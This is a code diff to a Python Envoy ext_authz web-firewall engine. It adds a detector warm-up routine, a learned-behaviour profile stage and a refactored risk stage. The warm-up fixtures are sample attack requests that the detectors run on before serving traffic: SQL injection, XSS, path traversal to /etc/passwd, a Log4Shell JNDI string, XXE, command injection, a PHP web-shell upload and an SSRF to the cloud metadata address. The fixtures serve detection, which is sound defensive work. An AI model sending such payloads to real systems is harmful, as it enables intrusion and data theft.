@@ -83,6 +83,39 @@ class DetectionStage:
     def observe(self, ctx: CheckContext, verdict: Verdict) -> None:
         pass
 
+    def warm_up(self) -> None:
+        """Run decode and every compiled detector set once on representative requests.
+
+        Anything a decoder or detector loads or compiles lazily then happens at
+        engine build, not on a user's first request, which Envoy would time out
+        (ext_authz timeouts are a fraction of a second).
+        """
+        for ds in self._sets.values():
+            for request in _WARM_UP_REQUESTS:
+                ds.scan(request, extract(request, self.limits, len(request.body)).inputs)
+
+
+def _warm_up_requests() -> tuple[Request, ...]:
+    form = {"content-type": ("application/x-www-form-urlencoded",), "user-agent": ("Mozilla/5.0 (X11) Firefox/128.0",),
+            "cookie": ("sid=abc; theme=dark",), "referer": ("https://example.com/a?b=c",)}
+    js = {"content-type": ("application/json",)}
+    xml = {"content-type": ("application/xml",)}
+    multipart = {"content-type": ("multipart/form-data; boundary=b",)}
+    return (
+        Request(path="/a/b.php", query="q=1%27+or+%271%27%3D%271&x=%3Cscript%3Ealert(1)%3C/script%3E&f=../../etc/passwd",
+                headers=form),
+        Request(method="POST", path="/api", headers=js,
+                body=b'{"a": "${jndi:ldap://x/a}", "b": [1, {"$gt": ""}], "c": "; cat /etc/passwd", "d": "aGVsbG8gd29ybGQ="}'),
+        Request(method="POST", path="/soap", headers=xml,
+                body=b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a b="1">&x;</a>'),
+        Request(method="POST", path="/up", headers=multipart,
+                body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php system($_GET[1]); ?>\r\n--b--\r\n'),
+        Request(method="POST", path="/f", headers=form, body=b"user=alice&note=hello+world&to=http://169.254.169.254/"),
+    )
+
+
+_WARM_UP_REQUESTS = _warm_up_requests()
+
 
 class Runtime(Protocol):
     """Long-lived state shared by successive Engines (a reload swaps the Engine, not this).
@@ -104,10 +137,13 @@ def _detection(config: Config, runtime: "Runtime | None") -> Stage:
 
 def _risk(config: Config, runtime: "Runtime | None") -> "Stage | None":
     """Lists always; actor risk only with a runtime holding a state store (extauthz.runtime)."""
-    from extauthz.risk.stage import RiskStage
-    stage = RiskStage(config, getattr(runtime, "state", None), getattr(runtime, "rate_baseline", None),
-                      getattr(runtime, "lists", None))
-    return stage if (stage.store is not None or not stage.lists.empty or stage.runtime_lists) else None
+    from extauthz.risk.stage import risk_stage
+    return risk_stage(config, runtime)
+
+
+def _profile(config: Config, runtime: "Runtime | None") -> "Stage | None":
+    from extauthz.profile.stage import profile_stage  # learned behaviour; needs a Runtime
+    return profile_stage(config, runtime)
 
 
 # The engine's stages in order. Adding a stage: write its module and add its
@@ -116,6 +152,7 @@ def _risk(config: Config, runtime: "Runtime | None") -> "Stage | None":
 STAGE_FACTORIES: list[StageFactory] = [
     _risk,
     _detection,
+    _profile,
 ]
 
 
@@ -137,6 +174,15 @@ class Engine:
         self.stages: list[Stage] = list(stages)
         self.failures: collections.Counter[str] = collections.Counter()
         self._failures_lock = threading.Lock()
+
+    def warm_up(self) -> "Engine":
+        """Exercise the stateless stages once (see DetectionStage.warm_up); stateful
+        stages (profiles, risk) are not fed synthetic traffic. Returns self."""
+        for stage in self.stages:
+            warm = getattr(stage, "warm_up", None)
+            if warm is not None:
+                warm()
+        return self
 
     def close(self) -> None:
         """Flush what the stages hold (called when the server stops, not on reload)."""
